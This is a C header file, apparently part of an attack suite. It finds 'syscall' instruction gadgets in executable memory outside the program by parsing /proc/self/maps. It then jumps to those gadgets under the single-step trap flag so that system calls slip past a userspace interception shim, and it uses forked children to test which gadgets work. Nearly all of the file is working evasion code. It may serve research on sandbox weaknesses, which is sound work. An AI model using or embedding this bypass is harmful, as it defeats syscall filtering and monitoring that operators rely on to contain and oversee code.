/* System calls that really pass the shim: through a `syscall` instruction of its own text, where the kernel does not
 * look. Found by reading the process's own maps and bytes; whoever shares an address space can.
 */
#ifndef BYPASS_H
#define BYPASS_H

#include <ucontext.h>
#include "attack.h"

static uintptr_t gates[64];
static unsigned gate_count;
static volatile long bypass_result;
static volatile uintptr_t bypass_gate;
static volatile int bypass_passed;

/* Executable memory that is not this program's and not the kernel's vdso. */
static void find_gates(void)
{
	char line[512];
	extern char __executable_start, etext;
	FILE *maps = fopen("/proc/self/maps", "r");
	while (maps && fgets(line, sizeof(line), maps)) {
		uintptr_t low, high;
		char rights[8];
		if (sscanf(line, "%lx-%lx %7s", &low, &high, rights) != 3 || rights[2] != 'x' || rights[0] != 'r')
			continue;
		if (strstr(line, "[v") || (low <= (uintptr_t)&etext && high > (uintptr_t)&__executable_start))
			continue;
		for (const unsigned char *at = (const unsigned char *)low; at + 2 < (const unsigned char *)high; at++)
			if (at[0] == 0x0f && at[1] == 0x05 && gate_count < 64)
				gates[gate_count++] = (uintptr_t)at;
	}
	if (maps)
		fclose(maps);
}

/* The trap flag stops one instruction behind the system call (it returns by iret), whatever code follows it. */
static void trapped(int number, siginfo_t *info, void *context)
{
	(void)number, (void)info;
	greg_t *regs = ((ucontext_t *)context)->uc_mcontext.gregs;
	if ((uintptr_t)regs[REG_RIP] == bypass_gate) {
		bypass_passed = 1;
	} else if (bypass_passed) {
		bypass_result = regs[REG_RAX];
		regs[REG_EFL] &= ~0x100;
		regs[REG_RIP] = regs[REG_R12];
	}
}

__attribute__((noinline, unused)) static long bypass(uintptr_t gate, long number, long a, long b, long c, long d)
{
	bypass_gate = gate;
	bypass_passed = 0;
	bypass_result = -ENOSYS;
	register long r10 __asm__("r10") = d;
	register uintptr_t r13 __asm__("r13") = gate;
	__asm__ volatile("leaq 1f(%%rip), %%r12\n\t"
			 "subq $256, %%rsp\n\t"
			 "pushfq\n\t"
			 "orq $0x100, (%%rsp)\n\t"
			 "popfq\n\t"
			 "jmp *%%r13\n"
			 "1:\taddq $256, %%rsp\n\t"
			 : "+a"(number)
			 : "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r13)
			 : "rcx", "r11", "r12", "memory", "cc");
	return bypass_result;
}

static void bypass_start(void)
{
	struct sigaction action = { .sa_sigaction = trapped, .sa_flags = SA_SIGINFO | SA_ONSTACK };
	sigaction(SIGTRAP, &action, NULL);
	find_gates();
	/* Some are no instructions, and behind some comes what would crash here: keep those that work. */
	unsigned good = 0;
	for (unsigned i = 0; i < gate_count; i++) {
		fflush(stdout);
		pid_t child = fork();
		if (child == 0) {
			alarm(2);
			_exit(bypass(gates[i], SYS_getpid, 0, 0, 0, 0) == getpid() ? 0 : 1);
		}
		int status;
		waitpid(child, &status, 0);
		if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
			gates[good++] = gates[i];
	}
	printf("%u places, %u ways past the shim\n", gate_count, good);
	gate_count = good;
}

#endif
